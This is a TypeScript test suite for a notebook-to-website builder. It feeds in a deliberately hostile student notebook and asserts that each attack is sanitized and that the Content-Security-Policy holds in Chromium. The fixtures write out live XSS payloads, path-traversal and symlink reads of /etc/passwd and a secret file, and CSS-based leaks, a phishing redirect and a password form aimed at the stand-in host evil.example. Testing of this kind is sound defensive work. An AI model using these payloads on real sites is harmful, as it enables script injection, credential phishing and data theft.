/**
 * The site builder against a hostile notebook (a student's, say): each attack vector is a cell,
 * an output or metadata of one notebook, and each is asserted blocked in the built HTML (and, where
 * it is a file, not copied), with the refusal listed in the build's `problems`. Then the pages are
 * loaded in Chromium with every request recorded: no request leaves the site, no injected script
 * runs (a window flag is never set), and the Content-Security-Policy stops an inline script and an
 * off-site image even when they are planted in a built page behind the sanitizer's back.
 * Prints the number of vectors blocked.
 */
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import type { Browser } from "playwright-core";
import { buildSite, type SiteResult } from "../../kernel-helpers/tools/site";
import { sanitizeHtml } from "../../kernel-helpers/shared/sanitize";
import { InputError } from "../../src/errors";
import { launch, openPage, serve, type Served } from "./browser";

const EVIL = "evil.example";
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "dl-site-hostile-"));
const course = path.join(tmp, "course");
const student = path.join(course, "student");
const SECRET = "TOP-SECRET-TEACHER-KEY";
fs.mkdirSync(student, { recursive: true });
fs.writeFileSync(path.join(course, "secret.png"), SECRET);
fs.writeFileSync(path.join(student, "ok.png"), "an honest picture");
fs.symlinkSync(path.join(course, "secret.png"), path.join(student, "link.png"));
fs.symlinkSync(course, path.join(student, "up"));

type Output = Record<string, unknown>;
const md = (source: string, extra: Record<string, unknown> = {}) => ({ cell_type: "markdown", metadata: {}, source, ...extra });
const code = (source: string, outputs: Output[], extra: Record<string, unknown> = {}) => ({ cell_type: "code", metadata: {}, execution_count: 1, source, outputs, ...extra });
const display = (data: Record<string, unknown>, metadata: Record<string, unknown> = {}): Output => ({ output_type: "display_data", data, metadata });
const PNG1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const vl = (extra: Record<string, unknown>) => ({ $schema: "https://vega.github.io/schema/vega-lite/v5.json", mark: "point", encoding: { x: { field: "x", type: "quantitative" } }, ...extra });
/** flags an injected script would set: window.__pwned = n */
const pwn = (n: number) => `window.__pwned='v${n}'`;

/**
 * The vectors: where each one sits, and how its blocking is checked in the built page (`html`),
 * the index (`index`) and the build's problems.
 */
interface Vector {
  name: string;
  check(page: string, index: string, problems: string[]): void;
}

const cells = [
  md(`# Hostile lesson <img src=x onerror="${pwn(1)}"><script>${pwn(2)}</script>\n\nA first sentence.`),
  md("![passwd](/etc/passwd)"),
  md("![key](../secret.png)"),
  md("![link](link.png)"),
  md("![through a folder link](up/secret.png)"),
  md("![fine](ok.png)"),
  md(`<script>${pwn(3)}</script>\n\n<img src="x" onerror="${pwn(4)}">`),
  md(`<iframe src="https://${EVIL}/frame"></iframe>`),
  md(`[click me](javascript:${pwn(5)}) and <a href="javascript:${pwn(6)}">me too</a>`),
  md(`<svg onload="${pwn(7)}"><circle r="3"></circle></svg>`),
  md(`<div style="background:url(https://${EVIL}/leak?c=1)">styled</div>\n\n<style>@import url(https://${EVIL}/x.css); body{background:url(//${EVIL}/b)}</style>`),
  md(`<meta http-equiv="refresh" content="0;url=https://${EVIL}/phish">`),
  md(`<form action="https://${EVIL}/steal"><input name="password"><button>Log in</button></form>`),
  md(`<object data="https://${EVIL}/x.swf"></object><embed src="https://${EVIL}/x.bin">`),
  md(`[open](data:text/html,<script>${pwn(8)}</script>) and <a href="data:text/html;base64,PHNjcmlwdD4=">b64</a>`),
  md(`<img src="https://${EVIL}/pixel.png"> <link rel="stylesheet" href="https://${EVIL}/l.css"> <base href="https://${EVIL}/">`),
  md(`<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">fake login overlay</div>`),
  code("html()", [display({ "text/html": `<b>bold</b><script>${pwn(9)}</script><img src=x onerror="${pwn(10)}">`, "text/plain": "x" })]),
  code("md()", [display({ "text/markdown": `**md** <script>${pwn(11)}</script> <img src=y onerror="${pwn(12)}"> ![p](/etc/passwd)`, "text/plain": "x" })]),
  code("chart()", [display({ "application/vnd.vegalite.v5+json": vl({ data: { url: `https://${EVIL}/data.json` } }), "image/png": PNG1, "text/plain": "offsite data" })]),
  code("chart()", [display({ "application/vnd.vegalite.v5+json": vl({ data: { values: [{ x: 1 }] }, usermeta: { embedOptions: { loader: { baseURL: `https://${EVIL}/` } } } }), "image/png": PNG1, "text/plain": "embed options" })]),
  code("chart()", [display({ "application/vnd.vegalite.v5+json": vl({ data: { values: [{ x: 1, img: `https://${EVIL}/i.png` }] }, mark: "image" }), "image/png": PNG1, "text/plain": "image mark" })]),
  code("chart()", [display({ "application/vnd.vegalite.v5+json": vl({ data: { values: [{ x: 1, label: `</script><script>${pwn(13)}</script>` }] } }), "image/png": PNG1, "text/plain": "breakout" })]),
  code("img()", [display({ "image/png": PNG1, "text/plain": "img" }, { "image/png": { width: `10" onerror="${pwn(14)}` } })]),
  code("x", [{ output_type: "stream", name: `stdout"><script>${pwn(15)}</script>`, text: "hi" }], { execution_count: `<script>${pwn(16)}</script>` }),
];

const notebookFile = path.join(student, "01-hostile.ipynb");
fs.writeFileSync(notebookFile, JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  cells,
  metadata: {
    summary: `Summary <img src=x onerror="${pwn(17)}"><script>${pwn(18)}</script> [x](javascript:${pwn(19)})`,
    language_info: { name: `typescript"><script>${pwn(20)}</script>` },
    // the old builder read images from this folder: it must be ignored
    dl_lessons: { ok: true, source: "/etc/hostname" },
  },
}));

const has = (s: string, needle: string | RegExp): boolean => (typeof needle === "string" ? s.includes(needle) : needle.test(s));
const refusedImage = (problems: string[], href: string, why: RegExp) =>
  assert.ok(problems.some((p) => p.includes(`image "${href}" refused`) && why.test(p)), `refusal of ${href} reported: ${problems.join("\n")}`);

const VECTORS: Vector[] = [
  { name: "![x](/etc/passwd): absolute path", check: (_h, _i, p) => refusedImage(p, "/etc/passwd", /absolute path/) },
  { name: "![x](../secret.png): '..' escape", check: (_h, _i, p) => refusedImage(p, "../secret.png", /'\.\.'/) },
  { name: "![x](link.png): symlink to a file outside", check: (_h, _i, p) => refusedImage(p, "link.png", /symbolic link/) },
  { name: "![x](up/secret.png): through a folder symlink", check: (_h, _i, p) => refusedImage(p, "up/secret.png", /symbolic link/) },
  { name: "<script> in markdown", check: (h) => assert.ok(!has(h, pwn(3)) && !has(h, pwn(2))) },
  { name: "<img onerror> in markdown and in the title", check: (h) => assert.ok(!has(h, pwn(4)) && !has(h, pwn(1))) },
  { name: "<iframe>", check: (h) => assert.ok(!has(h, /<iframe/i)) },
  { name: "javascript: links (markdown and <a>)", check: (h) => assert.ok(!has(h, /javascript:/i)) },
  { name: "<svg onload>", check: (h) => assert.ok(!has(h, pwn(7)) && has(h, "<svg><circle")) },
  { name: "style-based exfiltration: url() in a style attribute and <style>@import", check: (h) => assert.ok(!has(h, `${EVIL}/leak`) && !has(h, "@import") && !has(h, `//${EVIL}/b`)) },
  { name: "<meta http-equiv=refresh>", check: (h) => assert.ok(!has(h, `${EVIL}/phish`)) },
  { name: "<form action> with a password field", check: (h) => assert.ok(!has(h, /<form|<input|<button/i)) },
  { name: "<object> and <embed>", check: (h) => assert.ok(!has(h, /<object|<embed/i)) },
  { name: "data:text/html links", check: (h) => assert.ok(!has(h, /<a\b[^>]*href="data:/i)) },
  { name: "off-site <img>, <link rel=stylesheet>, <base href>", check: (h) => assert.ok(!has(h, `${EVIL}/pixel`) && !has(h, `${EVIL}/l.css`) && !has(h, /<base/i)) },
  { name: "position:fixed overlay", check: (h) => assert.ok(!has(h, /position:\s*fixed/i) && has(h, "fake login overlay")) },
  { name: "raw text/html output with <script> and onerror", check: (h) => assert.ok(!has(h, pwn(9)) && !has(h, pwn(10)) && has(h, "<b>bold</b>")) },
  { name: "text/markdown output with <script>, onerror and an absolute image", check: (h, _i, p) => { assert.ok(!has(h, pwn(11)) && !has(h, pwn(12)) && has(h, "<strong>md</strong>")); assert.equal(p.filter((x) => x.includes('image "/etc/passwd" refused')).length, 2); } },
  { name: "Vega-Lite spec with data.url off-site", check: (h, _i, p) => assert.ok(!has(h, `${EVIL}/data.json`) && p.some((x) => /chart spec refused.*data\.url/.test(x))) },
  { name: "Vega-Lite spec with usermeta.embedOptions", check: (h, _i, p) => assert.ok(!has(h, `"baseURL"`) && p.some((x) => /usermeta\.embedOptions/.test(x))) },
  { name: "Vega-Lite image mark with an off-site address in its data", check: (h, _i, p) => assert.ok(!has(h, `${EVIL}/i.png`) && p.some((x) => /data\.values\[0\]\.img/.test(x))) },
  { name: "</script> breakout from a chart spec", check: (h) => assert.ok(!has(h, `</script><script>${pwn(13)}`) && has(h, "\\u003c/script>")) },
  { name: "attribute injection through image metadata width", check: (h) => assert.ok(!has(h, pwn(14))) },
  { name: "injection through a stream name and execution_count", check: (h) => assert.ok(!has(h, pwn(15)) && !has(h, pwn(16))) },
  { name: "metadata.summary with <img onerror>, <script> and javascript: (index.html and <meta>)", check: (h, i) => assert.ok([pwn(17), pwn(18), pwn(19)].every((f) => !has(i, f) && !has(h, f)) && has(i, "Summary")) },
  { name: "language_info.name breaking out of a class attribute", check: (h) => assert.ok(!has(h, pwn(20))) },
  { name: "images read from metadata.dl_lessons.source's folder", check: (_h, _i, p) => assert.ok(!p.some((x) => x.includes("hostname"))) },
];

describe("a hostile notebook", () => {
  let result: SiteResult;
  let pageHtml = "";
  let indexHtml = "";
  const out = path.join(tmp, "site");

  before(() => {
    result = buildSite([notebookFile], out);
    pageHtml = fs.readFileSync(path.join(out, "01-hostile.html"), "utf8");
    indexHtml = fs.readFileSync(path.join(out, "index.html"), "utf8");
  });

  test("builds (nothing fatal) and lists what it refused", () => {
    assert.ok(result.problems.length >= 15, result.problems.join("\n"));
    for (const p of result.problems) assert.match(p, /^01-hostile\.ipynb, (cell \d+|summary): /);
  });

  let blocked = 0;
  for (const v of VECTORS) {
    test(`blocked: ${v.name}`, () => {
      v.check(pageHtml, indexHtml, result.problems);
      blocked++;
    });
  }

  test("no file from outside the notebook's folder is in the site; its own image is", () => {
    const files = fs.readdirSync(path.join(out, "img")).map((f) => fs.readFileSync(path.join(out, "img", f), "utf8"));
    assert.ok(!files.some((f) => f.includes(SECRET) || f.includes("root:")), "no secret and no passwd copied");
    assert.ok(files.includes("an honest picture"));
  });

  test("whole-page rules: no inline script, no event handler, no off-site address in src/href/style", () => {
    for (const html of [pageHtml, indexHtml]) {
      const scripts = [...html.matchAll(/<script\b([^>]*)>/gi)].map((m) => m[1].trim());
      for (const s of scripts) assert.match(s, /^(src="assets\/[a-z.-]+\.js"|type="application\/json" class="chart-spec")$/, `script tag ${s}`);
      assert.ok(!/\son[a-z]+\s*=/i.test(html.replace(/<script type="application\/json"[\s\S]*?<\/script>/g, "")), "no on…= attribute");
      assert.ok(!new RegExp(`(src|href|action|data|style)="[^"]*${EVIL}`, "i").test(html), `no ${EVIL} in an attribute`);
    }
  });

  after(() => console.log(`hostile notebook: ${blocked} of ${VECTORS.length} attack vectors blocked`));
});

describe("the hostile site in Chromium", () => {
  let browser: Browser;
  let served: Served;
  const out = path.join(tmp, "site-browser");

  before(async () => {
    buildSite([notebookFile], out);
    // behind the sanitizer's back: a built page with an inline script and an off-site image planted in
    // it, so the Content-Security-Policy alone has to stop them
    const page = fs.readFileSync(path.join(out, "01-hostile.html"), "utf8");
    fs.writeFileSync(path.join(out, "planted.html"), page.replace("<main class=\"lesson\">", `<main class="lesson"><script>${pwn(99)}</script><img src="https://${EVIL}/planted.png"><img src="x" onerror="${pwn(98)}">`));
    served = await serve(out);
    browser = await launch();
  });

  after(async () => {
    await browser?.close();
    await served?.close();
  });

  for (const file of ["01-hostile.html", "index.html", "planted.html"]) {
    test(`${file}: zero requests off the site, no injected script runs`, async () => {
      const r = await openPage(browser, served.base);
      try {
        await r.page.goto(served.base + file);
        await r.page.waitForLoadState("load");
        // let charts draw and a meta refresh (if one survived) fire
        await r.page.waitForTimeout(1500);
        const pwned = await r.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null);
        assert.equal(pwned, null, "no injected script ran");
        assert.deepEqual(r.offsite, [], "no request left the site");
        assert.ok(r.page.url().startsWith(served.base + file), `still on ${file}: ${r.page.url()}`);
        assert.ok(r.requests.every((u) => u.startsWith(served.base) || u.startsWith("data:")));
        if (file === "planted.html") {
          // the policy itself refused the planted inline script, handler and image (Chromium logs each)
          const refusals = r.errors.filter((e) => /Content Security Policy/.test(e));
          assert.ok(refusals.length >= 3, r.errors.join("\n"));
        }
        if (file === "01-hostile.html") {
          // the one safe chart draws (the spec whose string held "</script>" is plain data)
          const drawn = await r.page.$$eval("figure.chart.embedded", (fs) => fs.length);
          assert.equal(drawn, 1, r.errors.join("\n"));
        }
      } finally {
        await r.close();
      }
    });
  }
});

describe("sanitizeHtml (kernel-helpers/shared/sanitize.ts, shared with the grader)", () => {
  test("sanitizeHtml keeps KaTeX, tables, highlighted code and safe links as they are", () => {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const katex = require("katex") as { renderToString(t: string, o: object): string };
    const k = katex.renderToString("\\sigma(z) = \\frac{1}{1 + e^{-z}}", { displayMode: true, output: "htmlAndMathml" });
    assert.deepEqual(sanitizeHtml(k), { html: k, removed: [] });
    const safe = '<table><caption>W</caption><tbody><tr><td style="background:#eef;padding:2px" colspan="2"><b>1</b></td></tr></tbody></table><span class="hljs-keyword">const</span><a href="#top">top</a><a href="02-next.html">next</a>';
    assert.deepEqual(sanitizeHtml(safe), { html: safe, removed: [] });
  });

  test("names what it removed; refuses what is not a string", () => {
    const r = sanitizeHtml('<p onclick="x()">a</p><script>b</script><a href="javascript:c">d</a>');
    assert.equal(r.html, "<p>a</p><a>d</a>");
    assert.deepEqual(r.removed.sort(), ['<script>', 'href="javascript:c" on <a>', "onclick on <p>"].sort());
    assert.throws(() => sanitizeHtml(null as unknown as string), (e: unknown) => e instanceof InputError && /sanitizeHtml.*html/.test((e as Error).message));
  });
});
